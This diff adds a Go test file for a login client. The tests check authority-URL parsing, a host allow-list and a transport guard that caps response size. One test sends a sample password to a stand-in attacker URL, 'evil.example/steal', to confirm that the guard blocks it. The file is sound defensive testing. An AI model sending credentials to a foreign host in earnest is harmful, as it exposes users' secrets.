@@ -1,0 +1,85 @@
+package flameconnect
+
+import (
+	"errors"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestParseAuthority(t *testing.T) {
+	good := []struct{ in, host, tenant, policy string }{
+		{DefaultAuthority, "gdhvb2cflameconnect.b2clogin.com:443", fcTenant, fcPolicy},
+		{"https://127.0.0.1:8443/t.onmicrosoft.com/B2C_1A_X/", "127.0.0.1:8443", "t.onmicrosoft.com", "B2C_1A_X"},
+		{"https://HOST.example/t/p", "host.example:443", "t", "p"},
+	}
+	for _, tc := range good {
+		a, err := parseAuthority(tc.in)
+		if err != nil {
+			t.Errorf("%q: %v", tc.in, err)
+			continue
+		}
+		if a.host != tc.host || a.tenant != tc.tenant || a.policy != tc.policy {
+			t.Errorf("%q: %+v", tc.in, a)
+		}
+	}
+	for _, bad := range []string{"", "http://h/t/p", "https:///t/p", "https://h/t", "https://h/t/p/x", "https://u:p@h/t/p", "https://h/t/p?x=1", "https://h/../p", "ftp://h/t/p"} {
+		if _, err := parseAuthority(bad); err == nil {
+			t.Errorf("%q: accepted", bad)
+		}
+	}
+}
+
+func TestAuthorityAllows(t *testing.T) {
+	a := testAuthority(t)
+	for raw, want := range map[string]bool{
+		"https://login.example:8443/x":   true,
+		"https://LOGIN.example:8443/x":   true,
+		"https://login.example/x":        false,
+		"http://login.example:8443/x":    false,
+		"https://evil.example:8443/x":    false,
+		"https://u@login.example:8443/x": false,
+	} {
+		u, _ := url.Parse(raw)
+		if got := a.allows(u); got != want {
+			t.Errorf("allows(%s) = %v, want %v", raw, got, want)
+		}
+	}
+}
+
+type stubTransport struct {
+	calls int
+	body  string
+}
+
+func (s *stubTransport) RoundTrip(*http.Request) (*http.Response, error) {
+	s.calls++
+	return &http.Response{StatusCode: 200, Body: io.NopCloser(strings.NewReader(s.body)), Header: http.Header{}}, nil
+}
+
+func TestGuardRefusesOtherHostsAndCapsBodies(t *testing.T) {
+	next := &stubTransport{body: strings.Repeat("x", maxBody+1)}
+	g := guard{auth: testAuthority(t), next: next}
+	req, _ := http.NewRequest("POST", "https://evil.example/steal", strings.NewReader("password=x"))
+	if _, err := g.RoundTrip(req); !errors.Is(err, errForeignHost) {
+		t.Fatalf("foreign host: %v", err)
+	}
+	if next.calls != 0 {
+		t.Fatal("the guard let a foreign request through")
+	}
+	req, _ = http.NewRequest("GET", "https://login.example:8443/big", nil)
+	resp, err := g.RoundTrip(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := io.ReadAll(resp.Body); !errors.Is(err, errBodyTooLarge) {
+		t.Fatalf("oversized body: %v", err)
+	}
+	next.body = strings.Repeat("x", maxBody)
+	resp, _ = g.RoundTrip(req)
+	if b, err := io.ReadAll(resp.Body); err != nil || len(b) != maxBody {
+		t.Fatalf("a body of exactly the cap: %d bytes, %v", len(b), err)
+	}
+}
